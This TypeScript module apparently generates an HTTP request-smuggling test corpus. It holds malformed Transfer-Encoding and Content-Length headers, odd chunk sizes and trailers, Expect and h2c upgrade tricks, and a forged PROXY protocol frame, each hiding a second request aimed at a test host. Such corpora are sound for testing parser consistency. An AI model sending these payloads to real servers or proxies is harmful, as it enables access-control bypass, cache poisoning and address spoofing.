/** Requests that two parsers could read differently, each with another one that would be hidden in it. */

export const HIDDEN = "GET /smuggled HTTP/1.1\r\nHost: api.test\r\nX-Id: smuggled\r\n\r\n";
export const post = (fields: string, body: string): string => `POST /evil HTTP/1.1\r\nHost: api.test\r\n${fields}\r\n${body}`;

export const CODINGS = [
  "Transfer-Encoding: chunked",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding: \x0bchunked",
  "Transfer-Encoding: chunked\x0c",
  "Transfer-Encoding: Chunked",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: chunkedx",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: chunked;q=1",
  "Transfer-Encoding: chunked,",
  "Transfer-Encoding: ,chunked",
  "Transfer-Encoding: gzip, chunked",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity",
  "Transfer-Encoding:",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding\r\n: chunked",
  "Transfer-Encoding: chunked\rX: y",
  "Transfer-Encoding: chun\0ked",
  "Transfer_Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "X: y\nTransfer-Encoding: chunked",
  " Transfer-Encoding: chunked",
  ": x\r\nTransfer-Encoding: chunked",
  "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunk\xc3\xa9d",
];
export const LENGTHS = [
  "",
  "Content-Length: 5\r\n",
  "Content-Length: 05\r\n",
  "Content-Length: 5\r\nContent-Length: 6\r\n",
  "Content-Length: 5 5\r\n",
];
export const CHUNK_SIZES = [
  "5;a=b",
  '5;a="\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\n"',
  "5;\n",
  "5 ",
  " 5",
  "0x5",
  "+5",
  "-5",
  "5\t",
  "5\r",
  "5\n",
  "",
  "g",
  "00000000000000000000000005",
  "10000000000000005",
  "100000005",
  "ffffffffffffffff",
  "fffffffffffffff5",
  "FFFFFFFE",
  "8000000000000000",
];
export const LENGTH_VALUES = [
  "5,5",
  "5;",
  "5e0",
  "5.0",
  "0x5",
  "+5",
  "-0",
  "１",
  "5\x0b",
  "99999999999999999999",
  "18446744073709551621",
  "4294967301",
  "00000000000000005",
  '"5"',
];

export function smugglingCorpus(): string[] {
  const attacks: string[] = [];
  for (const coding of CODINGS) {
    for (const length of LENGTHS) {
      attacks.push(post(`${length}${coding}\r\n`, `0\r\n\r\n${HIDDEN}`));
      attacks.push(post(`${coding}\r\n${length}`, `5\r\nabcde\r\n0\r\n\r\n${HIDDEN}`));
    }
  }
  for (const size of CHUNK_SIZES) attacks.push(post("Transfer-Encoding: chunked\r\n", `${size}\r\nabcde\r\n0\r\n\r\n${HIDDEN}`));
  for (const value of LENGTH_VALUES) attacks.push(post(`Content-Length: ${value}\r\n`, `abcde${HIDDEN}`));
  attacks.push(
    post("Transfer-Encoding: chunked\r\n", `5\r\nabcdeXX0\r\n\r\n${HIDDEN}`),
    post("Transfer-Encoding: chunked\r\n", `0\r\nX-Trailer: 1\r\n\r\n${HIDDEN}`),
    post("Transfer-Encoding: chunked\r\n", `0\r\nContent-Length: 5\r\n${HIDDEN}`),
    post("Transfer-Encoding: chunked\r\n", `0\r\nX:${HIDDEN}`),
    post("Content-Length: 0\r\n", HIDDEN),
    post("Expect: 100-continue\r\nContent-Length: 5\r\n", `abcde${HIDDEN}`),
    post("Expect: 100-continue\r\nExpect: 100-continue\r\nTransfer-Encoding: chunked\r\n", `0\r\n\r\n${HIDDEN}`),
    post("Expect: 100-continue\r\nContent-Length: 0\r\n", HIDDEN),
    `GET /evil HTTP/1.1\r\nHost: api.test\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
    `HEAD /evil HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
    `GET /evil HTTP/1.1\r\nHost: api.test\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\nConnection: Upgrade, HTTP2-Settings\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${HIDDEN}`,
    `GET /evil HTTP/1.1\r\nHost: api.test\r\n: x\r\nContent-Length: 5\r\n\r\n${HIDDEN}`,
    // A PROXY protocol v2 frame: another address, for whoever believes it.
    `\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c\x06\x06\x06\x06\x01\x01\x01\x01\0\x01\0\x02${post("Content-Length: 5\r\n", `abcde${HIDDEN}`)}`,
  );
  return attacks;
}
